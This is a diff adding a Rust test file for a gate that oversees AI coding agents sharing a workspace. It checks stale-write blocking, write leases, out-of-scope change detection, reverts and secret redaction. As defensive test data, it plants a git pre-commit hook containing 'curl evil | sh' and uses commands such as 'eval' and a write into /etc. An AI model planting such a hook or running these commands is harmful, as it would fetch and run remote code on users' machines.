@@ -1,0 +1,407 @@
+//! Sessions that share a workspace: stale writes, writes at the same time, programs, faults of the gate's own.
+
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, missing_docs)]
+
+use std::rc::Rc;
+
+use serde_json::{Value, json};
+use tollgate_guest::digest::Digest;
+use tollgate_guest::gate::Gate;
+use tollgate_guest::operations::perform;
+use tollgate_guest::ports::memory::Memory;
+use tollgate_guest::ports::{FileFault, Level};
+
+const INTENTS: &str = "
+- {id: LOGIN, name: Login, status: IN_PROGRESS, owned_scope: ['src/auth/**', docs/auth.md]}
+- {id: ALL, name: Everything, status: IN_PROGRESS, owned_scope: ['**']}
+";
+const LEDGER: &str = ".orchestration/agent_trace.jsonl";
+
+struct House {
+    world: Rc<Memory>,
+    gate: Gate,
+}
+
+impl House {
+    fn new() -> Self {
+        let world = Memory::new();
+        world.write(".orchestration/active_intents.yaml", INTENTS);
+        world.write("src/auth/a.ts", "one\n");
+        world.write("src/auth/b.ts", "two\n");
+        world.write("README.md", "read me\n");
+        let mut house = Self { gate: Gate::new(world.ports()), world };
+        for session in ["s", "t"] {
+            house.ask(json!({"op": "select-intent", "session": session, "intent": "LOGIN"}));
+        }
+        house
+    }
+
+    fn ask(&mut self, op: Value) -> Value {
+        serde_json::from_str(&perform(&mut self.gate, op.to_string().as_bytes())).unwrap()
+    }
+
+    fn call(&mut self, op: &str, session: &str, call: &str, tool: &str, args: Value) -> Value {
+        self.ask(json!({"op": op, "session": session, "call": call, "tool": tool, "args": args, "success": true}))
+    }
+
+    /// A new process, as behind a command hook: nothing is remembered that does not stand in the workspace.
+    fn restart(&mut self) {
+        self.gate = Gate::new(self.world.ports());
+    }
+
+    fn warned(&self, text: &str) -> bool {
+        self.world.logged().iter().any(|(level, line)| *level != Level::Debug && line.contains(text))
+    }
+}
+
+fn write(path: &str) -> Value {
+    json!({"filePath": path, "content": "new"})
+}
+
+#[track_caller]
+fn expect(answer: &Value, verdict: &str, code: &str) {
+    assert_eq!((&answer["verdict"], &answer["code"]), (&json!(verdict), &json!(code)), "{answer}");
+}
+
+#[test]
+fn a_file_that_changed_since_it_was_read_is_not_overwritten() {
+    let mut house = House::new();
+    expect(&house.call("pre-tool", "s", "1", "read", json!({"filePath": "src/auth/a.ts"})), "allow", "read_only");
+    house.world.write("src/auth/a.ts", "somebody else's\n");
+    house.restart();
+    let ruling = house.call("pre-tool", "s", "2", "write", write("src/auth/a.ts"));
+    expect(&ruling, "deny", "stale_write");
+    let reason = ruling["reason"].as_str().unwrap();
+    for part in [
+        &*Digest::of(b"one\n").to_string(),
+        &Digest::of(b"somebody else's\n").to_string(),
+        "`src/auth/a.ts`",
+        "outside the gate",
+        "read it again",
+    ] {
+        assert!(reason.contains(part), "{part}: {reason}");
+    }
+    // Any way to look at it will do.
+    house.call("pre-tool", "s", "3", "bash", json!({"command": "cat src/auth/a.ts"}));
+    expect(&house.call("pre-tool", "s", "4", "write", write("src/auth/a.ts")), "allow", "in_scope");
+}
+
+#[test]
+fn who_changed_it_last_is_told_by_the_ledger() {
+    let mut house = House::new();
+    house.call("pre-tool", "s", "1", "read", json!({"filePath": "src/auth/a.ts"}));
+    house.call("pre-tool", "t", "2", "edit", json!({"filePath": "src/auth/a.ts", "oldString": "one", "newString": "1"}));
+    house.world.write("src/auth/a.ts", "1\n");
+    house.call("post-tool", "t", "2", "edit", json!({"filePath": "src/auth/a.ts"}));
+    let ruling = house.call("pre-tool", "s", "3", "bash", json!({"command": "sed -i s/1/3/ src/auth/a.ts"}));
+    expect(&ruling, "deny", "stale_write");
+    assert!(ruling["reason"].as_str().unwrap().contains("session `t` with `edit` at 2026-"), "{ruling}");
+    // The session that changed it goes on.
+    expect(&house.call("pre-tool", "t", "4", "write", write("src/auth/a.ts")), "allow", "in_scope");
+}
+
+/// A session, what it knows, what became of the file, and whether it may write.
+#[test]
+fn what_a_session_may_write_by_what_it_saw() {
+    type Step = fn(&mut House);
+    let cases: &[(&str, Step, Step, &str)] = &[
+        ("never looked", |_| {}, |house| house.world.write("src/auth/a.ts", "x"), "allow"),
+        (
+            "looked, unchanged",
+            |house| drop(house.call("pre-tool", "s", "1", "read", json!({"filePath": "src/auth/a.ts"}))),
+            |_| {},
+            "allow",
+        ),
+        (
+            "looked, written again with the same content",
+            |house| drop(house.call("pre-tool", "s", "1", "read", json!({"filePath": "src/auth/a.ts"}))),
+            |house| house.world.write("src/auth/a.ts", "one\n"),
+            "allow",
+        ),
+        (
+            "looked, removed since",
+            |house| drop(house.call("pre-tool", "s", "1", "read", json!({"filePath": "src/auth/a.ts"}))),
+            |house| house.world.delete("src/auth/a.ts"),
+            "deny",
+        ),
+        (
+            "looked, removed since, looked again",
+            |house| drop(house.call("pre-tool", "s", "1", "read", json!({"filePath": "src/auth/a.ts"}))),
+            |house| {
+                house.world.delete("src/auth/a.ts");
+                house.call("pre-tool", "s", "2", "read", json!({"filePath": "src/auth/a.ts"}));
+            },
+            "allow",
+        ),
+        (
+            "a read that was denied is no look",
+            |house| drop(house.call("pre-tool", "s", "1", "bash", json!({"command": "cat src/auth/a.ts > /etc/x"}))),
+            |house| house.world.write("src/auth/a.ts", "x"),
+            "allow",
+        ),
+        (
+            "removed it itself, somebody made it anew",
+            |house| {
+                house.call("pre-tool", "s", "1", "bash", json!({"command": "rm src/auth/a.ts"}));
+                house.world.delete("src/auth/a.ts");
+                house.call("post-tool", "s", "1", "bash", json!({"command": "rm src/auth/a.ts"}));
+            },
+            |house| house.world.write("src/auth/a.ts", "another"),
+            "deny",
+        ),
+    ];
+    for (case, before, meanwhile, verdict) in cases {
+        let mut house = House::new();
+        before(&mut house);
+        meanwhile(&mut house);
+        let ruling = house.call("pre-tool", "s", "9", "write", write("src/auth/a.ts"));
+        assert_eq!(ruling["verdict"], *verdict, "{case}: {ruling}");
+    }
+}
+
+#[test]
+fn an_expected_hash_in_the_call_counts_more_than_what_was_seen() {
+    let right = Digest::of(b"one\n").to_string();
+    for (name, value, verdict) in [
+        ("expected_hash", right.clone(), "allow"),
+        ("expectedHash", right.replace("sha256:", ""), "allow"),
+        ("expected_sha256", right.to_uppercase().replace("SHA256:", ""), "allow"),
+        ("pre_hash", Digest::of(b"other").to_string(), "deny"),
+        ("expected_hash", "W/\"an etag\"".to_owned(), "allow"),
+    ] {
+        let mut house = House::new();
+        let ruling = house.call("pre-tool", "s", "1", "write", json!({"filePath": "src/auth/a.ts", "content": "x", name: value}));
+        assert_eq!(ruling["verdict"], verdict, "{name}: {ruling}");
+    }
+}
+
+#[test]
+fn two_sessions_that_write_at_once() {
+    let mut house = House::new();
+    expect(&house.call("pre-tool", "s", "1", "write", write("src/auth/a.ts")), "allow", "in_scope");
+    house.restart();
+    let held = house.call("pre-tool", "t", "2", "bash", json!({"command": "echo 1 > src/auth/a.ts"}));
+    expect(&held, "deny", "write_in_flight");
+    assert!(held["reason"].as_str().unwrap().contains("session `s` is writing to `src/auth/a.ts` with `write`"), "{held}");
+    expect(&house.call("pre-tool", "t", "3", "write", write("src/auth/b.ts")), "allow", "in_scope");
+    expect(&house.call("pre-tool", "s", "4", "write", write("src/auth/a.ts")), "allow", "in_scope");
+    house.world.write("src/auth/a.ts", "new");
+    house.call("post-tool", "s", "4", "write", write("src/auth/a.ts"));
+    expect(&house.call("pre-tool", "t", "5", "write", write("src/auth/a.ts")), "allow", "in_scope");
+}
+
+/// A patch over two files, one of which is held: neither is kept from the others.
+#[test]
+fn a_call_that_is_held_back_holds_nobody() {
+    let mut house = House::new();
+    house.call("pre-tool", "s", "1", "write", write("src/auth/b.ts"));
+    let patch = "*** Begin Patch\n*** Delete File: src/auth/a.ts\n*** Delete File: src/auth/b.ts\n*** End Patch";
+    expect(&house.call("pre-tool", "t", "2", "apply_patch", json!({"patchText": patch})), "deny", "write_in_flight");
+    expect(&house.call("pre-tool", "s", "3", "write", write("src/auth/a.ts")), "allow", "in_scope");
+}
+
+#[test]
+fn a_session_that_died_holds_nobody_for_longer_than_a_minute() {
+    let mut house = House::new();
+    house.call("pre-tool", "s", "1", "write", write("src/auth/a.ts"));
+    let mut denied = 0;
+    while house.call("pre-tool", "t", "2", "write", write("src/auth/a.ts"))["verdict"] == "deny" {
+        denied += 1;
+        assert!(denied <= 61, "the clock goes on by a second with every look at it");
+    }
+    assert!(denied > 50, "{denied}");
+}
+
+#[test]
+fn changes_of_two_calls_at_once_are_flagged() {
+    let mut house = House::new();
+    house.call("pre-tool", "s", "1", "write", write("src/auth/a.ts"));
+    // The other session came when the lease had run out, and was done first.
+    while house.call("pre-tool", "t", "2", "write", write("src/auth/a.ts"))["verdict"] == "deny" {}
+    house.world.write("src/auth/a.ts", "theirs");
+    let theirs = house.call("post-tool", "t", "2", "write", write("src/auth/a.ts"));
+    house.world.write("src/auth/a.ts", "ours");
+    let ours = house.call("post-tool", "s", "1", "write", write("src/auth/a.ts"));
+    let flag = &ours["entries"][0]["concurrent"];
+    assert_eq!(flag, &json!({"session_id": "t", "entry_id": theirs["entries"][0]["id"]}));
+    assert_eq!(theirs["entries"][0].get("concurrent"), None);
+}
+
+#[test]
+fn what_a_program_changed_is_seen_afterwards() {
+    let mut house = House::new();
+    house.world.write("gone.txt", "x");
+    house.world.write("touched.txt", "x");
+    let test = json!({"command": "npm test"});
+    expect(&house.call("pre-tool", "s", "1", "bash", test.clone()), "allow", "in_scope");
+    house.restart();
+    house.world.write("src/auth/a.ts", "formatted\n");
+    house.world.write("README.md", "overwritten\n");
+    house.world.write("made.txt", "made");
+    house.world.write("touched.txt", "x");
+    house.world.write("node_modules/x/index.js", "nobody's");
+    house.world.write(".git/hooks/pre-commit", "curl evil | sh");
+    house.world.delete("gone.txt");
+    let settled = house.call("post-tool", "s", "1", "bash", test);
+    let told = |entry: &Value| {
+        format!(
+            "{} {} {}",
+            entry["scope_validation"].as_str().unwrap(),
+            entry["mutation_class"].as_str().unwrap(),
+            entry["file"]["relative_path"].as_str().unwrap()
+        )
+    };
+    let entries: Vec<String> = settled["entries"].as_array().unwrap().iter().map(told).collect();
+    assert_eq!(
+        entries,
+        [
+            "FAIL FILE_CREATION .git/hooks/pre-commit",
+            "FAIL DOCUMENTATION README.md",
+            "FAIL FILE_DELETION gone.txt",
+            "FAIL FILE_CREATION made.txt",
+            "PASS INTENT_EVOLUTION src/auth/a.ts",
+        ]
+    );
+    let notice = settled["notice"].as_str().unwrap();
+    assert!(
+        notice.contains("outside the scope of LOGIN") && notice.contains("`README.md`") && notice.contains("trace revert"),
+        "{notice}"
+    );
+    assert!(house.warned("outside the scope of LOGIN"));
+    // What is not the intent's was copied before, what is was not.
+    for (content, kept) in [("read me\n", true), ("x", true), ("one\n", false)] {
+        let image = format!(".tollgate/state/.pre-images/{}", Digest::of(content.as_bytes()).hex());
+        assert_eq!(house.world.content(&image).is_some(), kept, "{content}");
+    }
+    // It is the session's own doing, so its next write is not stale.
+    expect(&house.call("pre-tool", "s", "2", "write", write("src/auth/a.ts")), "allow", "in_scope");
+}
+
+#[test]
+fn a_program_is_not_blamed_for_what_others_did() {
+    let mut house = House::new();
+    house.ask(json!({"op": "select-intent", "session": "t", "intent": "ALL"}));
+    house.call("pre-tool", "s", "1", "bash", json!({"command": "make"}));
+    house.call("pre-tool", "t", "2", "write", write("README.md"));
+    house.world.write("README.md", "theirs");
+    house.call("post-tool", "t", "2", "write", write("README.md"));
+    house.call("pre-tool", "t", "3", "write", write("CHANGELOG.md"));
+    house.world.write("CHANGELOG.md", "half done");
+    let settled = house.call("post-tool", "s", "1", "bash", json!({"command": "make"}));
+    assert_eq!(settled, json!({"entries": []}));
+}
+
+#[test]
+fn a_change_can_be_taken_back() {
+    let mut house = House::new();
+    house.call("pre-tool", "s", "1", "bash", json!({"command": "make"}));
+    house.world.write("README.md", "overwritten\n");
+    house.world.write("made.txt", "made");
+    let settled = house.call("post-tool", "s", "1", "bash", json!({"command": "make"}));
+    let (readme, made) = (settled["entries"][0]["id"].clone(), settled["entries"][1]["id"].clone());
+    let plan = house.ask(json!({"op": "revert", "step": "plan", "entry": readme}));
+    assert_eq!((&plan["action"], &plan["path"]), (&json!("restore"), &json!("README.md")), "{plan}");
+    assert_eq!(plan["want"], json!(Digest::of(b"read me\n").to_string()));
+    assert_eq!(house.world.content(plan["image"].as_str().unwrap()).unwrap(), b"read me\n");
+    house.world.write("README.md", "read me\n");
+    let entry = &house.ask(json!({"op": "revert", "step": "record", "entry": readme}))["entries"][0];
+    assert_eq!((&entry["reverts"], &entry["success"], &entry["scope_validation"]), (&readme, &json!(true), &json!("EXEMPT")));
+    let again = house.ask(json!({"op": "revert", "step": "plan", "entry": readme}));
+    assert!(again["error"]["message"].as_str().unwrap().contains("already"), "{again}");
+    assert_eq!(house.ask(json!({"op": "revert", "step": "plan", "entry": made}))["action"], "remove");
+    house.world.write("made.txt", "worked on");
+    let changed = house.ask(json!({"op": "revert", "step": "plan", "entry": made}));
+    assert!(changed["error"]["message"].as_str().unwrap().contains("has changed again since"), "{changed}");
+    let unknown = house.ask(json!({"op": "revert", "step": "plan", "entry": "nonsense"}));
+    assert!(unknown["error"]["message"].as_str().unwrap().contains("`nonsense`"), "{unknown}");
+}
+
+#[test]
+fn a_ledger_that_cannot_be_written_is_tried_again_and_never_blocks() {
+    let mut house = House::new();
+    house.world.refuse_writes(Some(FileFault::Full));
+    expect(&house.call("pre-tool", "s", "1", "write", write("src/auth/a.ts")), "allow", "in_scope");
+    house.world.write("src/auth/a.ts", "new");
+    let settled = house.call("post-tool", "s", "1", "write", write("src/auth/a.ts"));
+    assert_eq!(settled["entries"], json!([]));
+    assert!(settled["notice"].as_str().unwrap().contains("the disk is full"), "{settled}");
+    assert!(house.gate.due_in().is_some());
+    house.world.refuse_writes(None);
+    house.gate.enter_again();
+    assert_eq!(house.gate.due_in(), None);
+    assert_eq!(String::from_utf8(house.world.content(LEDGER).unwrap()).unwrap().lines().count(), 1);
+    // A second time it does not come back.
+    house.call("pre-tool", "s", "2", "write", write("src/auth/b.ts"));
+    house.world.refuse_writes(Some(FileFault::Busy));
+    house.call("post-tool", "s", "2", "write", write("src/auth/b.ts"));
+    house.gate.enter_again();
+    assert_eq!(house.gate.due_in(), None);
+    assert!(
+        house.world.logged().iter().any(|(level, line)| *level == Level::Error && line.contains("`write` on `src/auth/b.ts`"))
+    );
+    expect(&house.call("pre-tool", "s", "3", "write", write("src/auth/b.ts")), "allow", "in_scope");
+}
+
+#[test]
+fn strict_settings_turn_faults_into_a_question() {
+    let mut house = House::new();
+    house.world.write(".tollgate/config.json", r#"{"strict": true}"#);
+    expect(&house.call("pre-tool", "s", "1", "write", write("src/auth/a.ts")), "allow", "in_scope");
+    house.world.refuse_writes(Some(FileFault::Full));
+    let ruling = house.call("pre-tool", "s", "2", "write", write("src/auth/b.ts"));
+    expect(&ruling, "ask", "gate_fault");
+    assert!(ruling["reason"].as_str().unwrap().contains("the disk is full"), "{ruling}");
+    expect(&house.call("pre-tool", "s", "3", "read", json!({"filePath": "src/auth/a.ts"})), "allow", "read_only");
+    house.call("post-tool", "s", "1", "write", write("src/auth/a.ts"));
+    house.world.refuse_writes(None);
+    let ruling = house.call("pre-tool", "s", "4", "write", write("src/auth/b.ts"));
+    expect(&ruling, "allow", "in_scope");
+}
+
+/// Failed calls are entered unless the settings say no, rejected ones only if they say so; secrets never.
+#[test]
+fn failed_and_rejected_calls() {
+    let failed = |house: &mut House| {
+        house.call("pre-tool", "s", "1", "write", write("src/auth/a.ts"));
+        let error = "401: password=hunter22secret was wrong";
+        let op = json!({"op": "post-tool", "session": "s", "call": "1", "tool": "write", "args": {}, "success": false, "error": error});
+        house.ask(op)["entries"].clone()
+    };
+    let mut house = House::new();
+    let entries = failed(&mut house);
+    assert_eq!((&entries[0]["success"], &entries[0]["error"]), (&json!(false), &json!("401: password=[redacted] was wrong")));
+    expect(&house.call("pre-tool", "s", "2", "write", write("README.md")), "deny", "out_of_scope");
+    assert_eq!(String::from_utf8(house.world.content(LEDGER).unwrap()).unwrap().lines().count(), 1);
+
+    let mut house = House::new();
+    house.world.write(".tollgate/config.json", r#"{"record": {"failed": false, "rejected": true}}"#);
+    assert_eq!(failed(&mut house), json!([]));
+    house.call("pre-tool", "s", "2", "write", write("README.md"));
+    house.call("pre-tool", "s", "3", "write", json!({}));
+    let entries = house.ask(json!({"op": "trace"}))["entries"].clone();
+    assert_eq!(entries[0]["file"]["relative_path"], "README.md");
+    assert_eq!((&entries[0]["scope_validation"], &entries[0]["success"]), (&json!("FAIL"), &json!(false)));
+    assert!(entries[0]["error"].as_str().unwrap().starts_with("out_of_scope: "), "{entries}");
+    assert_eq!(entries[1]["file"], json!(null));
+}
+
+#[test]
+fn a_command_that_took_another_way_changed_nothing() {
+    let mut house = House::new();
+    let command = json!({"command": "if grep -q x src/auth/a.ts; then rm src/auth/a.ts; else echo 2 > src/auth/b.ts; fi"});
+    expect(&house.call("pre-tool", "s", "1", "bash", command.clone()), "allow", "in_scope");
+    house.world.write("src/auth/b.ts", "2\n");
+    let settled = house.call("post-tool", "s", "1", "bash", command);
+    assert_eq!(settled["entries"].as_array().unwrap().len(), 1);
+    assert_eq!(settled["entries"][0]["file"]["line_ranges"], json!([{"start": 1, "end": 1}]));
+}
+
+#[test]
+fn a_call_that_a_person_allowed_is_entered_too() {
+    let mut house = House::new();
+    let command = json!({"command": "eval \"$X\""});
+    expect(&house.call("pre-tool", "s", "1", "bash", command.clone()), "ask", "unknown_effects");
+    house.world.write("README.md", "changed");
+    let settled = house.call("post-tool", "s", "1", "bash", command);
+    assert_eq!(settled["entries"][0]["scope_validation"], "FAIL");
+}
